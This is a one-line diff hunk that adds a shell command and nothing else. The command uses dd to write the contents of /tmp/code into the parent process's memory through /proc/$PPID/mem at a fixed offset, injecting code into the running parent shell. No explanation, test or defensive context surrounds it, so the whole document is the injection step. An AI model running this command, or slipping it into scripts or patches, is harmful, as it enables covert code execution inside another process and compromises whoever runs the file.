@@ -1,0 +1,1 @@
+dd if=/tmp/code bs=1 seek=4096 conv=notrunc > /proc/$PPID/mem
